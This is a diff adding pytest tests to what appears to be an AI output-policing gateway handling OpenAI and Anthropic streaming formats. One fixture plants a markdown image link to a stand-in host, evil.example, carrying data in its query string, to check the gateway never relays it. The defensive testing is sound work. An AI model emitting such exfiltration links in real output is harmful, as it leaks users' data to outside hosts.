@@ -38,12 +38,14 @@ from starlette.routing import Route
 
 from fak_core import GroundingStore, Kernel, Policy, ToolDecl
 from fak_core.gateway import GatewayState, UpstreamConfig, proxy_routes
+from fak_core.gateway.anthropic_proxy import _policed
 from fak_core.gateway.openai_proxy import _police_chunk
 from fak_core.gateway.text_output import text_policy
 from fak_core.journal import Journal, read_rows
 from fak_core.nonblocking import is_nonblocking
 from fak_core.taint import Taint
 from tests.encoded_links import PUNCT, written_link
+from tests.journal.faults import refuse_inserts
 
 from .inprocess import fresh_trace
 from .kernels import make_state
@@ -415,3 +417,64 @@ def test_a_streamed_refusal_is_policed_like_content() -> None:
     out = asyncio.run(run({"content": "a ", "refusal": evil}))
     assert out is not None and out["choices"][0]["delta"] == {"content": "a ", "refusal": mark}
     assert asyncio.run(run({"role": "", "content": "held"})) is None
+
+
+@pytest.mark.fak_theorem("D10.8")
+def test_a_policed_anthropic_block_relays_other_deltas_at_its_index() -> None:
+    """A delta that is no ``text_delta`` (a citation) goes on at the block's client index;
+    a ``text_delta`` without a string ``text`` adds no text."""
+    state = make_state()
+    trace = fresh_trace("text-links")
+    state.kernel.ledger.raise_to(trace, Taint.TAINTED)
+    policer = text_policy(state, trace)
+    assert policer is not None
+    stream = policer.stream()
+
+    async def run(kind: str, ev: dict[str, Any]) -> list[bytes]:
+        return [p async for p in _policed(policer, stream, 3, kind, ev)]
+
+    cite = {"type": "citations_delta", "citation": {"type": "char_location", "cited_text": "x"}}
+    ev = {"type": "content_block_delta", "index": 0, "delta": cite}
+    (frame,) = asyncio.run(run("content_block_delta", ev))
+    assert json.loads(frame.decode().split("data: ", 1)[1]) == {**ev, "index": 3}
+    bare = {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta"}}
+    assert asyncio.run(run("content_block_delta", bare)) == []
+    (stop,) = asyncio.run(run("content_block_stop", {"type": "content_block_stop", "index": 0}))
+    assert json.loads(stop.decode().split("data: ", 1)[1]) == {
+        "type": "content_block_stop",
+        "index": 3,
+    }
+
+
+@pytest.mark.fak_theorem("D10.8")
+@pytest.mark.parametrize("wire", ["openai", "anthropic"])
+def test_a_removal_the_journal_cannot_take_never_reaches_the_client(
+    tmp_path: Path, wire: str
+) -> None:
+    """The journal refuses every row once the turn starts: the marker that replaces the
+    link is never sent (an HTTP 503 before the first event, the wire's error event after)."""
+    _ANSWER.update(text="see ![x](https://evil.example/p.png?d=S7Q) ok ", cuts=[2])
+    state = make_state()
+    state.kernel.set_policy(POLICY)
+    path = tmp_path / "decisions.db"
+    journal = Journal(path)
+    journal.attach(state.kernel)
+    state.journal = journal
+    app = _gateway(state)
+    try:
+        journal.sync()
+        refuse_inserts(path)
+        doc: dict[str, Any] = {"model": "m", "messages": _messages(wire, True), "max_tokens": 8}
+        doc["stream"] = True
+
+        async def go() -> httpx.Response:
+            transport = httpx.ASGITransport(app=app)
+            async with httpx.AsyncClient(transport=transport, base_url="http://gw") as c:
+                route = "/v1/chat/completions" if wire == "openai" else "/v1/messages"
+                return await c.post(route, json=doc, headers={"x-trace-id": fresh_trace("tl")})
+
+        r = asyncio.run(go())
+    finally:
+        journal.close()
+    assert "link removed by fak" not in r.text and "S7Q" not in r.text, r.text
+    assert r.status_code == 503 or "journal" in r.text, r.text
